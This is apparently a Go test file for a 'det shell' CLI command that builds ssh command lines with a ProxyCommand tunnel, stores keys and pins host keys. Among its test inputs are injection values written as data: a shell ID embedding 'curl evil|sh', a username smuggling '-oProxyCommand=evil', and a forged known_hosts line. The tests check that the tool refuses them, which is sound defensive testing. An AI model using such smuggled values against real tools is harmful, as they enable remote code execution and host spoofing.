package cli

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/det-slurm/bridge/api"
	"github.com/det-slurm/bridge/client"
)

// TestSSHCommandLine: the command line names this det and the bridge in
// ProxyCommand ("%" doubled for ssh, words quoted for the shell ssh runs
// it with), the key file and the shell's user; as one line, a POSIX
// shell splits it back into the same arguments.
func TestSSHCommandLine(t *testing.T) {
	sh := &api.Shell{Notebook: api.Notebook{ID: "8f3a-1"}, AgentUserGroup: &api.ShellUser{User: "alice"}}
	for _, tc := range []struct {
		setup     sshSetup
		key, line string
		proxy     string
	}{
		{sshSetup{det: "/usr/local/bin/det", master: "http://login1:8080"}, "/home/alice/.cache/det/shell/8f3a-1/key",
			"ssh -o 'ProxyCommand=/usr/local/bin/det -m http://login1:8080 shell tunnel %h' -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -i /home/alice/.cache/det/shell/8f3a-1/key alice@8f3a-1",
			"/usr/local/bin/det -m http://login1:8080 shell tunnel %h"},
		{sshSetup{det: "/opt/o'brien 100%/det", master: "https://login1/det?a=1&b=$x"}, "/home/my home/key",
			`ssh -o 'ProxyCommand='\''/opt/o'\''\'\'''\''brien 100%%/det'\'' -m '\''https://login1/det?a=1&b=$x'\'' shell tunnel %h' -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -i '/home/my home/key' alice@8f3a-1`,
			`'/opt/o'\''brien 100%%/det' -m 'https://login1/det?a=1&b=$x' shell tunnel %h`},
	} {
		cmd := &sshCommand{Command: tc.setup.command(sh, tc.key, ""), KeyFile: tc.key}
		if got := cmd.line(); got != tc.line {
			t.Errorf("line\n%s\nwant\n%s", got, tc.line)
		}
		if cmd.Command[2] != "ProxyCommand="+tc.proxy {
			t.Errorf("ProxyCommand %q, want %q", cmd.Command[2], tc.proxy)
		}
		out, err := exec.Command("/bin/sh", "-c", `set -- `+cmd.line()+`; printf '%s\n' "$@"`).Output()
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Join(cmd.Command, "\n") + "\n"; string(out) != got {
			t.Errorf("sh split the line into\n%s\nwant\n%s", out, got)
		}
	}
	if got := (sshSetup{det: "/det", master: "m"}).command(&api.Shell{Notebook: api.Notebook{ID: "s"}}, "/k", ""); got[len(got)-1] != "s" {
		t.Errorf("no user: %q", got)
	}
	pinned := (sshSetup{det: "/det", master: "m"}).command(sh, "/k", "/h/known_hosts")
	if got := strings.Join(pinned[3:7], " "); got != "-o StrictHostKeyChecking=yes -o UserKnownHostsFile=/h/known_hosts" {
		t.Errorf("a pinned host key: %q", got)
	}
}

// TestSSHCommandParsedBySSH: ssh itself reads the line's options as meant
// (ssh -G prints its configuration and connects to nothing).
func TestSSHCommandParsedBySSH(t *testing.T) {
	if _, err := exec.LookPath("ssh"); err != nil {
		t.Skip("no ssh here")
	}
	key := filepath.Join(t.TempDir(), "key")
	if err := os.WriteFile(key, []byte("k"), 0o600); err != nil {
		t.Fatal(err)
	}
	sh := &api.Shell{Notebook: api.Notebook{ID: "8f3a-1"}, AgentUserGroup: &api.ShellUser{User: "alice"}}
	args := (sshSetup{det: "/opt/100%/det", master: "http://login1:8080"}).command(sh, key, "")
	args = append([]string{"-G", "-F", "/dev/null"}, args[1:]...)
	out, err := exec.Command("ssh", args...).CombinedOutput()
	if err != nil {
		t.Fatalf("ssh -G: %v: %s", err, out)
	}
	for _, want := range []string{"user alice", "hostname 8f3a-1", "identityfile " + key, "identitiesonly yes",
		"userknownhostsfile /dev/null", "proxycommand /opt/100%%/det -m http://login1:8080 shell tunnel %h"} {
		if !strings.Contains(string(out), "\n"+want+"\n") {
			t.Errorf("ssh -G has no %q:\n%s", want, out)
		}
	}
}

// shellWithKey is a running shell of alice's with its key, as the bridge
// answers its owner.
func shellWithKey() client.Launched {
	sh := api.Shell{Notebook: api.Notebook{ID: "8f3a-full", State: api.StateRunning}, PrivateKey: "-----BEGIN OPENSSH PRIVATE KEY-----\nk\n-----END OPENSSH PRIVATE KEY-----\n",
		AgentUserGroup: &api.ShellUser{User: "alice"}}
	return client.Launched{Task: sh.Notebook, Shell: &sh}
}

// TestShowSSHCommand: det shell show_ssh_command (and show-ssh-command)
// writes the key under XDG_CACHE_HOME and prints the line, or with
// --json its arguments; a shell without a key for the caller, or an ended
// one, is refused.
func TestShowSSHCommand(t *testing.T) {
	detEnv(t, "alice")
	cache := filepath.Join(t.TempDir(), "cache")
	t.Setenv("XDG_CACHE_HOME", cache)
	key := filepath.Join(cache, "det", "shell", "8f3a-full", "key")
	f := &fakeClient{launched: shellWithKey()}
	out, errOut, code := runFake(t, f, "", "shell", "show_ssh_command", "8f3a")
	if code != 0 || !f.called("Get shell 8f3a") || !strings.HasPrefix(out, "ssh -o 'ProxyCommand=/") ||
		!strings.HasSuffix(out, " -m http://bridge.example shell tunnel %h' -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -i "+key+" alice@8f3a-full\n") {
		t.Fatalf("exit %d, calls %v: %s%s", code, f.calls, out, errOut)
	}
	if data, err := os.ReadFile(key); err != nil || string(data) != f.launched.Shell.PrivateKey {
		t.Errorf("key file: %q %v", data, err)
	}
	out, errOut, code = runFake(t, f, "", "shell", "show-ssh-command", "8f3a", "--json")
	var got sshCommand
	if err := json.Unmarshal([]byte(out), &got); code != 0 || err != nil || got.KeyFile != key || len(got.Command) != 12 || got.Command[11] != "alice@8f3a-full" {
		t.Errorf("--json: exit %d %v: %s%s", code, err, out, errOut)
	}
	hostKey := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
	f.launched.Shell.SSHHostKey = hostKey
	out, errOut, code = runFake(t, f, "", "shell", "show_ssh_command", "8f3a")
	known := filepath.Join(cache, "det", "shell", "8f3a-full", "known_hosts")
	if code != 0 || !strings.Contains(out, " -o StrictHostKeyChecking=yes -o UserKnownHostsFile="+known+" ") {
		t.Errorf("a pinned host key: exit %d: %s%s", code, out, errOut)
	}
	if data, err := os.ReadFile(known); err != nil || string(data) != "8f3a-full "+hostKey+"\n" {
		t.Errorf("known_hosts: %q %v", data, err)
	}
	f.launched.Shell.SSHHostKey = "ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 BBBB"
	if out, errOut, code := runFake(t, f, "", "shell", "show_ssh_command", "8f3a"); code != 1 || out != "" || !strings.Contains(errOut, "refusing to pin it") {
		t.Errorf("a host key that is not one: exit %d: %s%s", code, out, errOut)
	}
	f.launched = shellWithKey()
	f.launched.Shell.PrivateKey = ""
	if out, errOut, code := runFake(t, f, "", "shell", "show_ssh_command", "8f3a"); code != 1 || out != "" ||
		!strings.Contains(errOut, "shell 8f3a-full has no SSH key to show: only the shell's owner holds its key, and a shell started before shells had SSH has none") {
		t.Errorf("no key: exit %d: %s%s", code, out, errOut)
	}
	f.launched = shellWithKey()
	f.launched.Task.State = api.StateTerminated
	if _, errOut, code := runFake(t, f, "", "shell", "show_ssh_command", "8f3a"); code != 1 || !strings.Contains(errOut, "shell 8f3a-full has ended") {
		t.Errorf("ended: exit %d: %s", code, errOut)
	}
	for _, bad := range []func(*api.Shell){
		func(sh *api.Shell) { sh.ID = "x;curl evil|sh;#" },
		func(sh *api.Shell) { sh.AgentUserGroup.User = "-oProxyCommand=evil" },
	} {
		f.launched = shellWithKey()
		bad(f.launched.Shell)
		if out, errOut, code := runFake(t, f, "", "shell", "show_ssh_command", "8f3a"); code != 1 || out != "" || !strings.Contains(errOut, "refusing to put it in an ssh command") {
			t.Errorf("a hostile id or user from the bridge: exit %d: %s%s", code, out, errOut)
		}
	}
	t.Setenv("XDG_CACHE_HOME", filepath.Join(t.TempDir(), "100%"))
	f.launched = shellWithKey()
	if _, errOut, code := runFake(t, f, "", "shell", "show_ssh_command", "8f3a"); code != 1 || !strings.Contains(errOut, "set XDG_CACHE_HOME to a folder without") {
		t.Errorf("a %% in the cache path: exit %d: %s", code, errOut)
	}
}

// TestStartShowSSHCommand: det shell start --show-ssh-command prints the
// line to standard error, so that -d still prints the id alone; a shell
// without a key is only a warning.
func TestStartShowSSHCommand(t *testing.T) {
	detEnv(t, "alice")
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	f := &fakeClient{launched: shellWithKey()}
	out, errOut, code := runFake(t, f, "", "shell", "start", "-d", "--show-ssh-command")
	if code != 0 || out != "8f3a-full\n" || !strings.HasPrefix(errOut, "ssh -o 'ProxyCommand=") || !strings.HasSuffix(errOut, " alice@8f3a-full\n") {
		t.Errorf("exit %d: %s%s", code, out, errOut)
	}
	f.launched.Shell = nil
	out, errOut, code = runFake(t, f, "", "shell", "start", "-d", "--show-ssh-command")
	if code != 0 || out != "8f3a-full\n" || !strings.HasPrefix(errOut, "warning: no ssh command line: ") {
		t.Errorf("no key: exit %d: %s%s", code, out, errOut)
	}
}
